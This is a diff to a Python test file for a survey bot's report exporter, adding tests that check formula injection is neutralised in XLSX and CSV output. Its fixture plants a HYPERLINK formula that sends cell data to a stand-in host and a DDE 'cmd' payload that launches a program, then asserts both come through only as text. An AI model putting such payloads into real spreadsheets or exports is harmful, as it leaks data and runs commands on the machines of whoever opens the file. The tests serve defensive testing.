@@ -34,6 +34,7 @@ from zoneinfo import ZoneInfo
 import pytest
 from openpyxl import load_workbook
 from PIL import Image
+from sqlalchemy import update
 from sqlalchemy.ext.asyncio import AsyncSession
 
 from bot import charts
@@ -57,9 +58,11 @@ from storage.models import (
     Role,
     School,
     Survey,
+    SurveyAnswer,
 )
 from tests.conftest import database_url
 from tests.support.people import load_schools, municipality_id, person
+from tests.support.sheets import csv_fields, has_text, xlsx_texts
 
 T = datetime(2026, 10, 5, 7, 0, tzinfo=UTC)
 ZONE = ZoneInfo("Europe/Moscow")
@@ -504,6 +507,60 @@ async def test_the_operator_writes_the_report_files(
                                       text=True, timeout=120)  # fmt: skip
     assert refused.returncode == 1
     assert "analysis-no-survey" in refused.stderr
+
+
+LEAK = '=HYPERLINK("http://evil.example/?leak="&A1,"Подробнее")'
+CALC = "@SUM(1+1)*cmd|' /C calc'!A0"
+
+
+@pytest.fixture
+async def hostile(session: AsyncSession, region: dict[str, Any]) -> dict[str, Any]:
+    """The region with text a spreadsheet would run: a free answer, imported school names,
+    a renamed municipality, a person's name."""
+    schools = region["schools"]
+    await session.execute(update(SurveyAnswer).where(SurveyAnswer.question_id == "q_text")
+                          .values(text=LEAK))  # fmt: skip
+    await session.execute(update(School).where(School.id == schools["47001"].id)
+                          .values(short_name=CALC))  # fmt: skip
+    await session.execute(update(School).where(School.id == schools["47101"].id)
+                          .values(short_name="+7 Тосно", full_name="-Тосно"))  # fmt: skip
+    await session.execute(update(Participant).where(Participant.id == region["d1"].id)
+                          .values(full_name="\t=1+1"))  # fmt: skip
+    await session.commit()
+    return region
+
+
+def _assert_hostile_neutralised(texts: list[str]) -> None:
+    for wanted in (LEAK, CALC, "+7 Тосно"):
+        assert has_text(texts, wanted), wanted  # kept, as text
+
+
+async def test_no_formula_reaches_the_workbook_or_the_csv_files(
+    session: AsyncSession, hostile: dict[str, Any], translator: Translator
+) -> None:
+    tables = report_files.tables(await _report(session), translator.for_locale("ru"), "ru", ZONE)
+    texts = xlsx_texts(report_files.workbook(tables))
+    _assert_hostile_neutralised(texts)
+    archive = zipfile.ZipFile(io.BytesIO(report_files.csv_archive(tables)))
+    fields = [f for name in archive.namelist() for f in csv_fields(archive.read(name))]
+    _assert_hostile_neutralised(fields)
+    assert "'" + LEAK in csv_fields(archive.read("texts.csv"))
+    assert "-0.5" in fields  # a number stays a number: the change between rounds
+
+
+async def test_the_operator_report_files_carry_no_formula(
+    session: AsyncSession, hostile: dict[str, Any], database_kind: str, tmp_path: Path
+) -> None:
+    out = tmp_path / "report"
+    env = {**os.environ, "DATABASE_URL": database_url(database_kind, tmp_path), "BOT_TOKEN": ""}
+    command = [sys.executable, "-m", "bot", "report", "dir", "--round", "1", "--out", str(out),
+               "--from", "04.10.2026", "--to", "03.11.2026"]  # fmt: skip
+    done = await asyncio.to_thread(subprocess.run, command, env=env, capture_output=True,
+                                   text=True, timeout=120)  # fmt: skip
+    assert done.returncode == 0, done.stderr
+    _assert_hostile_neutralised(xlsx_texts((out / "dir-round1.xlsx").read_bytes()))
+    fields = [f for path in out.glob("*.csv") for f in csv_fields(path.read_bytes())]
+    _assert_hostile_neutralised(fields)
 
 
 async def test_per_person_surveys_count_people_where_they_work(
